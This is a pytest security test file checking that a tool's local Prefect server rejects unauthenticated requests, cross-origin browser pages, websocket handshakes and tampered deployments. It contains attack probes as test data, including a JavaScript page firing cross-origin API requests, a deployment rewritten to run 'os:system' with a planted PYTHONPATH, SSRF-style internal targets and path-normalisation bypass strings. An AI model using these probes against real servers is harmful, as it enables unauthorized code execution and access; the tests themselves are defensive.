"""A web page, a name that points here, another local user: none of them gets anything of a command's Prefect server."""

import json
import re
import shutil
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import psutil
import pytest

from corpus.errors import ConfigError
from crawlers.bundled_site import BundledSite, serve
from flows.pipelines import schedule
from flows.pipelines.requests import BuildRequest
from tests.crawlers.conftest import thread
from tests.crawlers.loopback import Reply, serve_pages
from tests.flows.command import ROOT, environment, start, with_tables
from tests.flows.strangers import (
    EVIL,
    SOCKETS,
    Server,
    ask,
    basic,
    besieged,
    handshake,
    let_in,
    played,
    server_below,
    strangers,
    token_taken,
)
from tests.flows.test_trouble import threads

pytestmark = pytest.mark.slow

OPEN = {("get", "/api/health"), ("get", "/api/ready")}
ROUTES = """
from fastapi.routing import APIWebSocketRoute
from prefect.server.api.server import API_ROUTERS, create_app

def walk(routes, at):
    for route in routes:
        print(at + route.path)
        walk(getattr(route, "routes", ()) or (), at + route.path)

for route in create_app().routes:
    if route.path != "/api":
        walk([route], "")
print("websockets")
for router in API_ROUTERS:
    for route in router.routes:
        if isinstance(route, APIWebSocketRoute):
            print("/api" + route.path.replace("{work_pool_name}", "any"))
"""


@dataclass(frozen=True)
class Scheduled:
    """A running schedule that crawls a site of its own."""

    process: "subprocess.Popen[str]"
    said: list[str]
    server: Server
    data: Path
    site: BundledSite
    deployment: dict[str, Any]

    def run(self, **asked: Any) -> str:
        """Have a run started by the server's owner; its id."""
        body = {"state": {"type": "SCHEDULED"}, **asked}
        made = self.server.ask("POST", f"/deployments/{self.deployment['id']}/create_flow_run", body)
        return str(made["id"])

    def as_deployed(self) -> dict[str, Any]:
        """The deployment but for what the schedule itself changes when it looks for runs."""
        held: dict[str, Any] = self.server.ask("GET", f"/deployments/{self.deployment['id']}")
        return {name: value for name, value in held.items() if name not in ("last_polled", "status", "updated")}

    def ended(self, run: str, seconds: float = 120) -> dict[str, Any]:
        """The state that a run has come to."""
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            state: dict[str, Any] = self.server.ask("GET", f"/flow_runs/{run}")["state"]
            if state["type"] in ("COMPLETED", "FAILED", "CRASHED", "CANCELLED"):
                return state
            time.sleep(0.5)
        raise AssertionError(f"run {run} did not end")

    def line(self) -> str:
        """The next line of its own that it says; on a busy machine Prefect says that it is still at work."""
        assert self.process.stderr is not None
        while not (line := self.process.stderr.readline()).startswith("wordquarry:"):
            assert line, self.said
            self.said.append(line)
        self.said.append(line)
        return line


@pytest.fixture(scope="module")
def site_threads(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The threads of a small site to crawl."""
    folder = tmp_path_factory.mktemp("site")
    lines = "".join(json.dumps(thread(number)) + "\n" for number in range(20))
    (folder / "threads.jsonl").write_text(lines, encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def scheduled(tmp_path_factory: pytest.TempPathFactory, site_threads: Path) -> Iterator[Scheduled]:
    folder = tmp_path_factory.mktemp("scheduled")
    data, posts = folder / "data", threads(folder / "posts.jsonl")
    with serve(site_threads) as site:
        arguments = ["--source", "bundled", "--url", site.base_url, "--posts", posts, "--data", data]
        often = {"PREFECT_RUNNER_POLL_FREQUENCY": "1"}
        process = start("schedule", "--cron", "0 3 29 2 *", *arguments, env=often)
        server = server_below(process.pid)
        assert process.stderr is not None
        said = [process.stderr.readline() for _ in range(3)]
        assert said[2].startswith("scheduled quarry")
        (deployment,) = server.ask("POST", "/deployments/filter", {})
        yield Scheduled(process, said, server, data, site, deployment)
        process.terminate()
        out, rest = process.communicate(timeout=30)
        for text in (*said, out, rest):
            assert server.secret not in text


def test_the_page_gets_nothing_from_a_schedule(scheduled: Scheduled) -> None:
    before = scheduled.as_deployed()
    runs = scheduled.server.ask("POST", "/flow_runs/count", {})
    answers = played(scheduled.server.port, scheduled.server.secret, scheduled.deployment["id"])
    assert len({one.who for one in answers}) == 13
    assert let_in(answers) == []
    assert scheduled.as_deployed() == before
    assert scheduled.server.ask("POST", "/flow_runs/count", {}) == runs
    names = [flow["name"] for flow in scheduled.server.ask("POST", "/flows/filter", {})]
    assert names == ["crawl-and-build"]


def test_every_address_of_the_server_wants_the_secret(scheduled: Scheduled) -> None:
    port = scheduled.server.port
    schema = ask(port, "GET", "/openapi.json", {"Authorization": basic(scheduled.server.secret)})[1]
    assert len(schema["paths"]) > 100
    without = set()
    for path, methods in schema["paths"].items():
        filled = re.sub(r"\{[^}]*\}", "00000000-0000-0000-0000-000000000000", path)
        for method in methods:
            if ask(port, method.upper(), f"/api{filled.removeprefix('/api')}", {}, {})[0].status != 401:
                without.add((method, f"/api{filled.removeprefix('/api')}"))
    assert without == OPEN


@pytest.fixture(scope="module")
def routes() -> tuple[set[str], list[str]]:
    """The addresses beside the API that Prefect's application has, and its websockets: a process says that has it."""
    command = [sys.executable, "-c", ROUTES]
    found = subprocess.run(command, capture_output=True, text=True, env=environment(), check=True, cwd=ROOT)
    beside, _, sockets = found.stdout.partition("websockets\n")
    return set(beside.split()), sockets.split()


def test_nothing_beside_the_addresses_of_the_api_is_answered_without_the_secret(
    scheduled: Scheduled, routes: tuple[set[str], list[str]]
) -> None:
    """Every route that Prefect's application has, and every way to write an address that is open."""
    server, beside = scheduled.server, routes[0]
    assert {"/docs", "/redoc", "/openapi.json", "/ui-settings"} <= beside
    spelled = {"/", "/index.html", "/api", "/api/", "/api/docs", "/api/openapi.json", "/api/version", "/api/static/"}
    spelled |= {"/api/health/", "//api/health", "/api//health", "/API/health", "/api/x/../health", "/api/health;x"}
    for path in sorted(beside | spelled):
        for method in ("GET", "HEAD", "POST", "OPTIONS"):
            assert ask(server.port, method, path, {})[0].status == 401, (method, path)
    assert ask(server.port, "POST", "/api/health", {})[0].status == 401
    mine = {"Authorization": basic(server.secret)}
    assert ask(server.port, "GET", "/openapi.json", {**mine})[0].status == 200
    twice = {"Authorization": basic("wordquarry:guess"), "authorization": mine["Authorization"]}
    assert ask(server.port, "GET", "/openapi.json", twice)[0].status == 401


def test_websockets_want_the_secret_too(scheduled: Scheduled, routes: tuple[set[str], list[str]]) -> None:
    port, secret = scheduled.server.port, scheduled.server.secret
    assert sorted(routes[1]) == sorted(SOCKETS), "Prefect has other websockets than these tests know"
    assert handshake(port, "/api/unknown/out", {}) == 403
    for path in SOCKETS:
        assert handshake(port, path, {}) == 101
        for who, headers in strangers(port, secret).items():
            if "Origin" in headers or "Host" in headers:
                assert handshake(port, path, headers) == 403, (path, who)
        assert [token_taken(port, path, token) for token in (None, "", "wordquarry:guess")] == [False] * 3, path
    assert [token_taken(port, path, secret) for path in SOCKETS[:4]] == [True] * 4


PAGE = """<!doctype html><title>a recipe</title><script>
const target = "http://HOST:PORT";
const json = {method: "POST", headers: {"Content-Type": "application/json"}, body: "{}"};
const asked = {
  "list": [target + "/api/deployments/filter", json],
  "list, simple": [target + "/api/deployments/filter", {method: "POST", body: "{}"}],
  "settings": [target + "/api/admin/settings", {}],
  "health": [target + "/api/health", {}],
  "change": [target + "/api/deployments/DEPLOYMENT", {...json, method: "PATCH"}],
  "start": [target + "/api/deployments/DEPLOYMENT/create_flow_run", {...json, mode: "no-cors"}],
};
const got = {};
const listen = () => new Promise((done) => {
  const socket = new WebSocket(target.replace("http", "ws") + "/api/events/out", "prefect");
  socket.onopen = () => done("open");
  socket.onerror = () => done("refused");
});
(async () => {
  for (const [name, [url, how]] of Object.entries(asked)) {
    try {
      const answer = await fetch(url, how);
      got[name] = answer.type === "opaque" ? "unreadable" : answer.status + " " + await answer.text();
    } catch (error) { got[name] = "blocked"; }
  }
  got["listen"] = await listen();
  await fetch("/got?" + encodeURIComponent(JSON.stringify(got)));
})();
</script>"""


@pytest.mark.parametrize("host", ["127.0.0.1", EVIL])
@pytest.mark.full
def test_the_page_in_a_browser(scheduled: Scheduled, tmp_path: Path, host: str) -> None:
    browser = shutil.which("chromium") or shutil.which("google-chrome")
    if browser is None:
        pytest.skip("needs chromium or google-chrome; the same requests are played without a browser above")
    runs = scheduled.server.ask("POST", "/flow_runs/count", {})
    page = PAGE.replace("HOST", host).replace("PORT", str(scheduled.server.port))
    page = page.replace("DEPLOYMENT", scheduled.deployment["id"])
    with serve_pages({"/": Reply(page.encode())}) as site:
        command = [browser, "--headless", "--no-sandbox", "--disable-gpu", f"--user-data-dir={tmp_path / 'profile'}"]
        command += [f"--host-resolver-rules=MAP {EVIL} 127.0.0.1", site.base_url.replace("127.0.0.1", EVIL)]
        with subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as process:
            deadline = time.monotonic() + 60
            while not (reports := [path for path in site.log if path.startswith("/got?")]):
                assert time.monotonic() < deadline, "the page reports nothing"
                time.sleep(0.1)
            process.terminate()
    got = json.loads(unquote(reports[0].removeprefix("/got?")))
    assert got.pop("start") in ("unreadable", "blocked")
    assert got.pop("listen") == "refused"
    assert set(got.values()) == {"blocked"}, got
    assert scheduled.server.ask("POST", "/flow_runs/count", {}) == runs


def otherwise(parameters: dict[str, Any], target: str, folder: Path) -> dict[str, Any]:
    """What the attacker of issue 10 asked for: an internal address, and an archive in a folder of their choice."""
    other: dict[str, Any] = json.loads(json.dumps(parameters))
    other["crawl_request"] |= {"base_url": target, "data": str(folder), "archive": True}
    other["crawl_request"]["config"]["private_addresses"] = True
    return other


def test_a_run_does_what_is_served_or_nothing(scheduled: Scheduled, tmp_path: Path) -> None:
    planted = tmp_path / "planted"
    served = scheduled.deployment["parameters"]
    with serve_pages({}) as internal:
        other = otherwise(served, internal.base_url, planted)
        digest = {"env": {"WORDQUARRY_SERVED": "0" * 64, "PYTHONPATH": str(planted)}}
        state = scheduled.ended(scheduled.run(parameters=other, job_variables=digest))
        assert state["type"] == "FAILED"
        assert "refused: its parameters are not those of this schedule" in state["message"]
        assert " begins: crawl and build" in scheduled.line()
        assert scheduled.line().startswith("wordquarry: this run failed: refused: its parameters are not those")
        assert internal.log == []
    assert not planted.exists()
    assert not (scheduled.data / "crawls").exists()


@pytest.mark.full
def test_a_deployment_that_was_changed_runs_nothing_and_what_is_served_runs(
    scheduled: Scheduled, tmp_path: Path
) -> None:
    planted = tmp_path / "planted"
    deployment = f"/deployments/{scheduled.deployment['id']}"
    served = scheduled.deployment["parameters"]
    with serve_pages({}) as internal:
        other = otherwise(served, internal.base_url, planted)
        digest = {"env": {"WORDQUARRY_SERVED": "0" * 64, "PYTHONPATH": str(planted)}}
        change = {
            "parameters": other,
            "entrypoint": "os:system",
            "path": str(planted),
            "enforce_parameter_schema": False,
        }
        scheduled.server.ask("PATCH", deployment, change)
        assert scheduled.ended(scheduled.run())["type"] == "FAILED"
        assert " begins: " in scheduled.line()
        assert "refused" in scheduled.line()
        assert internal.log == []
    assert not planted.exists()
    assert not (scheduled.data / "crawls").exists()
    assert scheduled.ended(scheduled.run(parameters=served, job_variables=digest))["type"] == "COMPLETED"
    assert (scheduled.data / "versions" / "quarry" / "latest").is_file()
    assert not planted.exists()


def test_a_run_may_not_choose_where_it_builds(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    builds = BuildRequest(data=str(tmp_path / "data"), name="quarry")
    monkeypatch.setenv(schedule.SERVED, schedule._digest(None, builds))
    assert schedule._as_served(None, builds.model_dump(mode="json")) == (None, builds)
    planted = builds.model_copy(update={"data": str(tmp_path / "planted")})
    with pytest.raises(ConfigError, match="its parameters are not those of this schedule"):
        schedule.crawl_and_build.fn(None, planted.model_dump(mode="json"))
    assert not (tmp_path / "planted").exists()


def test_the_secret_is_nowhere_but_with_the_same_user(scheduled: Scheduled) -> None:
    secret, processes = scheduled.server.secret, [psutil.Process(scheduled.process.pid)]
    assert len(secret) > 40
    processes += processes[0].children(recursive=True)
    assert len(processes) >= 2
    for process in processes:
        assert secret not in " ".join(process.cmdline())
        assert Path(f"/proc/{process.pid}/environ").stat().st_mode & 0o077 == 0
    files = [path for path in scheduled.data.rglob("*") if path.is_file()]
    assert "prefect.db" in {path.name for path in files}
    assert [path for path in files if secret.encode() in path.read_bytes()] == []
    assert (scheduled.data / "prefect").stat().st_mode & 0o077 == 0


RETRIED = """
import sys, time
from flows.processes.server import prefect_server

with prefect_server(sys.argv[1]):
    from prefect import flow
    from corpus.errors import StoreError
    from flows.pipelines.prefect_flows import io_task

    calls = []

    @lambda plain: io_task(plain).with_options(retry_delay_seconds=2)
    def fails_twice():
        calls.append(time.monotonic())
        if len(calls) < 3:
            raise StoreError("for now")

    @flow
    def retried():
        fails_twice()

    retried()
    print("calls", len(calls))
"""


@pytest.mark.full
def test_the_page_during_retries(tmp_path: Path) -> None:
    with_tables(tmp_path)
    process = subprocess.Popen(
        [sys.executable, "-c", RETRIED, str(tmp_path)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        encoding="utf-8",
        cwd=ROOT,
        env=environment(),
    )
    with besieged(process) as answers:
        stdout, stderr = process.communicate(timeout=120)
    assert process.returncode == 0, stderr
    assert stdout == "calls 3\n"
    assert len(answers) >= 100
    assert let_in(answers) == []
